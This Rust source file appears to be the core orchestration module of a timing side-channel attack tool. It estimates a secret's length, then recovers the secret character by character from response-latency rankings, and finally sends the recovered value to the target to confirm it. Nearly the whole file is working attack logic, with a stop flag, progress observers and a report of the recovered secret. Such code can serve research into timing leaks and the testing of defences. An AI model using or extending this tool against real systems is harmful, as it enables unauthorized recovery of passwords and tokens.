//! Attack orchestration.
//!
//! ```text
//! Idle ──▶ LengthDiscovery ──▶ CharacterRecovery ──▶ Done
//!   └──────────(length supplied)──────▲
//! ```
//!
//! Character recovery runs exactly `length` positions, never revisits a
//! position and appends one [`PositionTrace`] per position. Only a sampler
//! that cannot schedule workers stops a run early; every other failure shows
//! up as low-confidence records in the trace. Whatever was recovered before a
//! stop is kept in the [`RunReport`].

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Instant;

use chrono::{DateTime, Local};
use log::{error, info, warn};
use serde::{Deserialize, Serialize};
use uuid::Uuid;

use crate::config::{AttackConfig, RankingMode};
use crate::error::{ConfigError, Result};
use crate::length::{LengthEstimate, LengthEstimator, LengthRecord, pick_peak};
use crate::ranker::{CandidateRanker, RankingTrace};
use crate::transport::Transport;

/// Orchestrator state.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Phase {
    Idle,
    LengthDiscovery,
    CharacterRecovery,
    Done,
}

impl std::fmt::Display for Phase {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Idle => write!(f, "idle"),
            Self::LengthDiscovery => write!(f, "length discovery"),
            Self::CharacterRecovery => write!(f, "character recovery"),
            Self::Done => write!(f, "done"),
        }
    }
}

/// What an attack run should do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "action", rename_all = "snake_case")]
pub enum AttackPlan {
    /// Length discovery only.
    LengthOnly,
    /// Character recovery with a known or assumed length.
    Crack { length: usize },
    /// Length discovery followed by character recovery.
    Full,
}

/// One completed character position.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PositionTrace {
    /// Zero-based position.
    pub position: usize,
    pub symbol: char,
    /// Median latency of the chosen symbol.
    pub median: f64,
    pub method: RankingMode,
    pub ranking: RankingTrace,
    pub timestamp: DateTime<Local>,
    /// Seconds spent on this position.
    pub position_secs: f64,
    /// Seconds since character recovery started.
    pub elapsed_secs: f64,
}

/// Everything a run produced, including partial progress.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RunReport {
    pub run_id: String,
    pub plan: AttackPlan,
    pub config: AttackConfig,
    pub estimated_length: Option<usize>,
    pub length_scan: Vec<LengthRecord>,
    /// Recovered secret; partial if the run stopped early.
    pub secret: Option<String>,
    pub positions: Vec<PositionTrace>,
    /// `None` when verification was not attempted.
    pub verified: Option<bool>,
    /// Stopped by the operator.
    pub interrupted: bool,
    /// Why the run stopped early, if it did.
    pub failure: Option<String>,
    pub started_at: DateTime<Local>,
    pub ended_at: DateTime<Local>,
    pub total_secs: f64,
    pub length_phase_secs: Option<f64>,
    pub recovery_phase_secs: Option<f64>,
}

impl RunReport {
    fn new(plan: AttackPlan, config: AttackConfig) -> Self {
        let now = Local::now();
        Self {
            run_id: Uuid::new_v4().to_string(),
            plan,
            config,
            estimated_length: None,
            length_scan: Vec::new(),
            secret: None,
            positions: Vec::new(),
            verified: None,
            interrupted: false,
            failure: None,
            started_at: now,
            ended_at: now,
            total_secs: 0.0,
            length_phase_secs: None,
            recovery_phase_secs: None,
        }
    }

    /// True when recovery ran for every position without stopping early.
    pub fn is_complete(&self) -> bool {
        match (&self.secret, self.target_length()) {
            (Some(s), Some(len)) => {
                !self.interrupted && self.failure.is_none() && s.chars().count() == len
            }
            _ => false,
        }
    }

    fn target_length(&self) -> Option<usize> {
        match self.plan {
            AttackPlan::Crack { length } => Some(length),
            _ => self.estimated_length,
        }
    }
}

/// Shared flag an operator can raise to stop a run between rounds.
#[derive(Debug, Clone, Default)]
pub struct StopFlag(Arc<AtomicBool>);

impl StopFlag {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn stop(&self) {
        self.0.store(true, Ordering::SeqCst);
    }

    pub fn is_stopped(&self) -> bool {
        self.0.load(Ordering::SeqCst)
    }
}

/// Progress callbacks. Every method defaults to doing nothing.
pub trait AttackObserver {
    fn on_phase(&mut self, _phase: Phase) {}
    fn on_length_measured(&mut self, _record: &LengthRecord) {}
    fn on_length_estimated(&mut self, _estimate: &LengthEstimate) {}
    fn on_position_start(&mut self, _position: usize, _length: usize, _known: &str) {}
    fn on_position_done(&mut self, _trace: &PositionTrace) {}
    fn on_verified(&mut self, _secret: &str, _accepted: bool) {}
}

/// Observer that ignores everything.
#[derive(Debug, Default)]
pub struct SilentObserver;

impl AttackObserver for SilentObserver {}

/// Drives length discovery, character recovery and verification.
pub struct Attack<'a, T: Transport + ?Sized> {
    transport: &'a T,
    config: AttackConfig,
    stop: StopFlag,
    phase: Phase,
}

impl<'a, T: Transport + ?Sized> Attack<'a, T> {
    /// Validate `config` and build an idle orchestrator.
    pub fn new(transport: &'a T, config: AttackConfig) -> Result<Self> {
        config.validate()?;
        Ok(Self {
            transport,
            config,
            stop: StopFlag::new(),
            phase: Phase::Idle,
        })
    }

    /// Use an externally controlled stop flag.
    pub fn with_stop_flag(mut self, stop: StopFlag) -> Self {
        self.stop = stop;
        self
    }

    pub fn config(&self) -> &AttackConfig {
        &self.config
    }

    pub fn phase(&self) -> Phase {
        self.phase
    }

    /// Execute `plan` and return the report.
    ///
    /// Only a plan that fails validation is an error; it is rejected before
    /// any request is sent. A sampler failure mid-run ends the run with the
    /// failure recorded in the report.
    pub fn run(&mut self, plan: AttackPlan, observer: &mut dyn AttackObserver) -> Result<RunReport> {
        if let AttackPlan::Crack { length: 0 } = plan {
            return Err(ConfigError::ZeroLength.into());
        }

        let mut report = RunReport::new(plan, self.config.clone());
        let started = Instant::now();
        info!("run {} started: {plan:?}", report.run_id);

        let length = match plan {
            AttackPlan::Crack { length } => Some(length),
            AttackPlan::LengthOnly | AttackPlan::Full => {
                let t0 = Instant::now();
                let estimate = self.discover_length(observer, &mut report);
                report.length_phase_secs = Some(t0.elapsed().as_secs_f64());
                estimate
            }
        };

        if plan != AttackPlan::LengthOnly
            && let Some(length) = length
            && !self.should_halt(&report)
        {
            let t0 = Instant::now();
            self.recover(length, observer, &mut report);
            report.recovery_phase_secs = Some(t0.elapsed().as_secs_f64());
        }

        self.enter(Phase::Done, observer);
        if report.is_complete()
            && let Some(secret) = report.secret.clone()
        {
            let accepted = self.verify(&secret);
            observer.on_verified(&secret, accepted);
            report.verified = Some(accepted);
        }
        report.ended_at = Local::now();
        report.total_secs = started.elapsed().as_secs_f64();
        info!(
            "run {} finished in {:.3}s",
            report.run_id, report.total_secs
        );
        Ok(report)
    }

    /// Scan lengths and record the estimate in `report`.
    fn discover_length(
        &mut self,
        observer: &mut dyn AttackObserver,
        report: &mut RunReport,
    ) -> Option<usize> {
        self.enter(Phase::LengthDiscovery, observer);
        let estimator = LengthEstimator::new(
            self.transport,
            self.config.filler,
            self.config.length_stage,
        );

        let stop = &self.stop;
        let scan = estimator.scan(
            self.config.max_length,
            || stop.is_stopped(),
            |record| observer.on_length_measured(record),
        );
        if scan.stopped {
            warn!("length discovery interrupted after {} lengths", scan.records.len());
            report.interrupted = true;
        }
        if let Some(e) = &scan.error {
            error!("length discovery aborted: {e}");
            report.failure = Some(e.to_string());
        }
        if !scan.is_complete() {
            report.length_scan = scan.records;
            return None;
        }

        let estimate = pick_peak(scan.records)?;
        observer.on_length_estimated(&estimate);
        report.estimated_length = Some(estimate.length);
        report.length_scan = estimate.records;
        Some(estimate.length)
    }

    /// Recover `length` characters, one position at a time.
    fn recover(&mut self, length: usize, observer: &mut dyn AttackObserver, report: &mut RunReport) {
        self.enter(Phase::CharacterRecovery, observer);
        let ranker = CandidateRanker::new(self.transport, &self.config);
        let mut discovered = String::with_capacity(length);
        let loop_start = Instant::now();

        for position in 0..length {
            if self.stop.is_stopped() {
                warn!("character recovery interrupted at position {position}");
                report.interrupted = true;
                break;
            }
            observer.on_position_start(position, length, &discovered);
            let t0 = Instant::now();

            let choice = match ranker.rank(&discovered, length) {
                Ok(choice) => choice,
                Err(e) => {
                    error!("character recovery aborted at position {position}: {e}");
                    report.failure = Some(e.to_string());
                    break;
                }
            };

            discovered.push(choice.symbol);
            let trace = PositionTrace {
                position,
                symbol: choice.symbol,
                median: choice.median,
                method: choice.method,
                ranking: choice.trace,
                timestamp: Local::now(),
                position_secs: t0.elapsed().as_secs_f64(),
                elapsed_secs: loop_start.elapsed().as_secs_f64(),
            };
            observer.on_position_done(&trace);
            report.positions.push(trace);
        }

        report.secret = Some(discovered);
    }

    /// One confirmation request, independent of timing.
    pub fn verify(&self, secret: &str) -> bool {
        let accepted = self.transport.verify(secret);
        if accepted {
            info!("secret accepted by target");
        } else {
            warn!("target rejected recovered secret {secret:?}");
        }
        accepted
    }

    fn should_halt(&self, report: &RunReport) -> bool {
        report.interrupted || report.failure.is_some()
    }

    fn enter(&mut self, phase: Phase, observer: &mut dyn AttackObserver) {
        self.phase = phase;
        observer.on_phase(phase);
    }
}
